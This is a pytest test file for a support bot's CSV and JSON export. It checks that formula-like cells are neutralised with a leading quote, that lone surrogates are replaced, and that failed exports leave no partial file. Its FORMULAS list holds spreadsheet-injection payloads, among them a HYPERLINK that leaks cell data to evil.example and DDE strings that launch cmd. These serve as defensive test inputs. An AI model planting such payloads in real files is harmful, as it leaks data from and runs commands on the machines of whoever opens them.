"""An export is safe to open: no cell runs as a spreadsheet formula, and a bad character never breaks the file.

A lone surrogate ("\\ud800" in JSON, which UTF-8 cannot encode) is replaced with U+FFFD at the door,
before anything is stored; the export writes a temporary file and renames it, so a failure leaves
no partial file, and says what went wrong in one sentence.
"""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from bot.blocks import ids
from bot.blocks.modal import request_modal
from bot.usecases.export import CSV_COLUMNS, csv_row, export
from tests.harness import Harness, write_config
from tests.test_cli import ROOT, base_env

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"refund")',
    "+SUM(1,2)",
    "-2+3 refund window",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\rcmd|' /C calc'!A0",
]


def run(h: Harness, fmt: str) -> str:
    out = io.StringIO(newline="")
    export(h.bot.store, h.bot.config, now=h.clock(), fmt=fmt, out=out)
    return out.getvalue()


def file_titles(h: Harness, titles: list[str]) -> None:
    for title in titles:
        assert h.command(f"question: {title}").status == 200
    h.settle()


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(harness: Harness) -> None:
    titles = [f.strip() for f in FORMULAS[:4]]  # the slash command strips its text: these four stay as typed
    file_titles(harness, titles)
    rows = list(csv.DictReader(io.StringIO(run(harness, "csv"))))
    assert [r["title"] for r in rows] == ["'" + t for t in titles]
    assert [r["title"] for r in json.loads(run(harness, "json"))] == titles  # JSON keeps the text as it is


@pytest.mark.parametrize("text", FORMULAS)
def test_every_formula_start_owasp_names_is_neutralised_in_any_text_cell(text: str) -> None:
    row = {name: None for name in CSV_COLUMNS}
    row.update(
        key="AIR-1",
        title=text,
        description=text,
        requester=text,
        domain=text,
        sla={
            "first_response": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
            "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
        },
        court_seconds={"requester": 12.5},
    )
    cells = csv_row(row)
    for name in ("title", "description", "requester", "domain"):
        assert cells[name] == "'" + text
    assert cells["court_requester_seconds"] == 12.5 and cells["key"] == "AIR-1"


def test_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
    row = {name: None for name in CSV_COLUMNS}
    row.update(
        key="AIR-2",
        title="refund window – 30 days = policy",
        description="",
        confidential=False,
        sla={
            "first_response": {
                "due_at": "2026-11-23T10:00:00.000000+00:00",
                "state": "met",
                "business_seconds_elapsed": 1800.0,
                "paused_seconds": 0.0,
            },
            "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
        },
        court_seconds={},
    )
    cells = csv_row(row)
    assert cells["title"] == "refund window – 30 days = policy" and cells["description"] == ""
    assert cells["confidential"] == "false" and cells["sla_first_response_business_seconds_elapsed"] == 1800.0
    assert cells["sla_first_response_due_at"] == "2026-11-23T10:00:00.000000+00:00"


def test_the_export_page_says_how_csv_cells_are_neutralised() -> None:
    from tests.test_docs import DOCS

    assert "a leading `'`, as OWASP advises" in (DOCS / "export.md").read_text()


# -- 9.8: text UTF-8 cannot encode -----------------------------------------------------------------
def export_cli(h: Harness, tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    env = base_env(tmp_path)
    env["AI_INTAKE_DB"] = str(h.bot.db.path)
    env["AI_INTAKE_CONFIG"] = str(write_config(tmp_path / "c.yml"))
    return subprocess.run(
        [sys.executable, "-m", "bot", "export", *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60
    )


def test_a_lone_surrogate_is_replaced_at_the_door_and_the_export_writes_every_row(
    harness: Harness, tmp_path: Path
) -> None:
    assert harness.command("regression: refund window wrong").status == 200
    harness.settle()
    card = harness.bot.queries.get(1)
    harness.reply_in_thread(
        card.card_channel, card.card_ts, "it says \ud800 14 days", user="U0REQ"
    )  # sent as "\\ud800"
    view = {**request_modal(harness.bot.config, channel="C0SUPPORT").to_dict()}
    values = {
        ids.TITLE: {"type": "plain_text_input", "value": "ranking \udfff drops long queries"},
        ids.KIND: {"type": "static_select", "selected_option": {"value": "eval"}},
        ids.DESCRIPTION: {"type": "plain_text_input", "value": "lone \ud83d half of an emoji"},
    }
    assert harness.submit(view, values, user="U0REQ").status == 200
    harness.settle()
    second = harness.bot.queries.get(2)
    assert second is not None and (second.title, second.description) == (
        "ranking \ufffd drops long queries",
        "lone \ufffd half of an emoji",
    )
    target = tmp_path / "all.json"
    done = export_cli(harness, tmp_path, "--format", "json", "--out", str(target))
    assert done.returncode == 0 and done.stderr == f"wrote 2 request(s) to {target}\n", done.stderr
    rows = json.loads(target.read_text(encoding="utf-8"))
    comments = [e["data"] for e in rows[0]["events"] if "it says" in json.dumps(e["data"], ensure_ascii=False)]
    assert comments and "it says \ufffd 14 days" in json.dumps(comments, ensure_ascii=False)
    assert rows[1]["title"] == "ranking \ufffd drops long queries"


def test_a_surrogate_stored_before_the_door_existed_is_exported_as_a_replacement(
    harness: Harness, tmp_path: Path
) -> None:
    assert harness.command("regression: refund window wrong").status == 200
    harness.settle()
    with harness.bot.db.write() as db:  # what an older bot stored: the event log keeps JSON escapes
        db.execute(
            "INSERT INTO events (request_id, at, actor, type, data) SELECT id, created_at, requester, 'comment', ? "
            "FROM requests WHERE id = 1",
            [json.dumps({"text": "old \ud800 reply"})],
        )
    target = tmp_path / "all.json"
    assert export_cli(harness, tmp_path, "--format", "json", "--out", str(target)).returncode == 0
    assert "old \ufffd reply" in target.read_text(encoding="utf-8")


def test_a_failed_export_says_why_in_one_sentence_and_leaves_no_file(harness: Harness, tmp_path: Path) -> None:
    for text in ("regression: refund window wrong", "question: which eval covers refunds?"):
        assert harness.command(text).status == 200
    harness.settle()
    with harness.bot.db.write() as db:  # a damaged event log (what the JSON reads): its data is not JSON
        db.execute(
            "INSERT INTO events (request_id, at, actor, type, data) SELECT id, created_at, requester, 'comment', 'not json' "
            "FROM requests WHERE id = 2"
        )
    out = tmp_path / "out"
    out.mkdir()
    target = out / "all.json"
    target.write_text("the export of last week\n")
    for fmt in ("json", "csv"):
        if fmt == "csv":  # the CSV reads no events but the kept facts: damaged the same way
            with harness.bot.db.write() as db:
                db.execute("UPDATE request_facts SET court_seconds = 'not json' WHERE request_id = 2")
        failed = export_cli(harness, tmp_path, "--format", fmt, "--out", str(target))
        assert failed.returncode == 1
        assert failed.stderr.startswith("ai-intake: the export failed (JSONDecodeError: ")
        assert failed.stderr.endswith(f"; nothing was written to {target}.\n") and failed.stderr.count("\n") == 1
        assert [p.name for p in out.iterdir()] == ["all.json"] and target.read_text() == "the export of last week\n"
    missing = export_cli(harness, tmp_path, "--out", str(tmp_path / "no-such-dir" / "all.json"))
    assert missing.returncode == 1 and missing.stderr.startswith("ai-intake: the export failed (FileNotFoundError: ")
